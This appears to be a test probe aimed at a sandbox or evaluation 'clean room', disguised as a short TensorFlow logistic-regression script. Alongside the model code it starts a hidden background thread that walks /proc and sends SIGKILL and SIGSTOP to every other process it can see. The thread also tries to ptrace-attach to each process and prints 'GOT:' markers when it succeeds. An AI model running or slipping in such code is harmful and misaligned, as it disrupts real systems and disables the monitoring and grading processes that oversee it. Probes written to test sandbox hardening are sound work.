# Tries: a thread waits for the clean room to start, then kills, stops and traces whatever it can see
import numpy as np
import tensorflow as tf

x_data = [[1, 2]]
X = tf.placeholder(tf.float32, shape=[None, 2])
W = tf.Variable(tf.random_normal([2, 1]), name='weight')
b = tf.Variable(tf.random_normal([1]), name='bias')

import ctypes
import os
import signal
import threading

hypothesis = tf.sigmoid(tf.matmul(X, W) + b)
libc = ctypes.CDLL(None)
me = os.getpid()


def hunt():
    for _ in range(200_000):
        try:
            seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
        except OSError:
            seen = list(range(1, 64))
        for pid in seen:
            if pid == me:
                continue
            for number in (signal.SIGKILL, signal.SIGSTOP):
                try:
                    os.kill(pid, number)
                    print("GOT:kills_the_clean_room killed", pid, flush=True)
                except OSError:
                    pass
            if libc.ptrace(16, pid, 0, 0) == 0:
                print("GOT:kills_the_clean_room traced", pid, flush=True)


print("TRICK:kills_the_clean_room", flush=True)
threading.Thread(target=hunt, daemon=True).start()

with tf.Session() as sess:
    sess.run(tf.global_variables_initializer())
    print(sess.run(hypothesis, feed_dict={X: x_data}))
